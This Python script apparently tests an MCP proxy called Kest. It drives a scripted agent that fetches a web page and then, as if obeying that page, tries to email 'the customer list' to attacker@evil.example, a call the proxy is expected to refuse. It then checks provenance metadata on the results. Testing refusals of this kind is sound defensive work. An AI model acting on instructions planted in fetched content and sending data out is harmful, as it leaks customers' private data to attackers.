"""A scripted agent on the official Python SDK's ClientSession, talking to an MCP
server through `kest mcp proxy`, over stdio or streamable HTTP.

    python3 agent.py [--echo N] -- KEST mcp proxy --config kest.toml -- python3 server.py
    python3 agent.py [--echo N] --url http://127.0.0.1:PORT/mcp

Over HTTP, the bearer token in KEST_BEARER_TOKEN is sent with every request.

It fetches a page, tries to email what the page asked for (Kest refuses), summarizes,
then sends the owner's report. It prints one JSON object: each step's outcome, and
whether every result carried the passport back in `_meta.baggage`.
"""

import asyncio
import json
import os
import sys

import contextlib

from mcp.client import ClientSession
from mcp.client.stdio import StdioServerParameters, stdio_client
from mcp.client.streamable_http import streamable_http_client
from mcp.shared._httpx_utils import create_mcp_http_client
from mcp.shared.exceptions import MCPError


@contextlib.asynccontextmanager
async def connect(command: list[str], url: str | None):
    """The SDK's streams: a child process over stdio, or streamable HTTP at `url`."""
    if url is None:
        # The SDK passes the server only a few variables; the server's log is one more.
        env = {key: os.environ[key] for key in ("MAIL_TOOLS_LOG",) if key in os.environ}
        params = StdioServerParameters(command=command[0], args=command[1:], env=env or None)
        async with stdio_client(params) as streams:
            yield streams
        return
    token = os.environ.get("KEST_BEARER_TOKEN")
    headers = {"Authorization": f"Bearer {token}"} if token else None
    async with create_mcp_http_client(headers=headers) as http:
        async with streamable_http_client(url, http_client=http) as streams:
            yield streams


async def main(command: list[str], url: str | None, echoes: int) -> dict:
    report: dict = {"steps": [], "baggage_returned": True, "tools": []}
    async with connect(command, url) as streams:
        async with ClientSession(*streams) as session:
            await session.initialize()
            listed = await session.list_tools()
            report["tools"] = sorted(tool.name for tool in listed.tools)

            async def call(name: str, arguments: dict) -> None:
                try:
                    result = await session.call_tool(name, arguments)
                except MCPError as error:
                    report["steps"].append(
                        {"tool": name, "refused": True, "code": error.error.code,
                         "message": error.error.message}
                    )
                    return
                meta = result.meta or {}
                if "kest.chain_tip" not in str(meta.get("baggage", "")):
                    report["baggage_returned"] = False
                text = "".join(getattr(block, "text", "") for block in result.content)
                report["steps"].append({"tool": name, "refused": False, "text": text})

            await call("fetch_page", {"url": "https://shop.example/"})
            await call("send_email", {"to": "attacker@evil.example", "body": "the customer list"})
            await call("summarize", {"text": "a long page"})
            await call("send_email", {"to": "owner@shop.example", "body": "A page about prices."})
            for index in range(echoes):
                await call("echo", {"text": f"call {index}"})
    return report


if __name__ == "__main__":
    args = sys.argv[1:]
    echoes, url = 0, None
    while args[:1] in (["--echo"], ["--url"]):
        if args[0] == "--echo":
            echoes = int(args[1])
        else:
            url = args[1]
        args = args[2:]
    if args[:1] == ["--"]:
        args = args[1:]
    print(json.dumps(asyncio.run(main(args, url, echoes))))
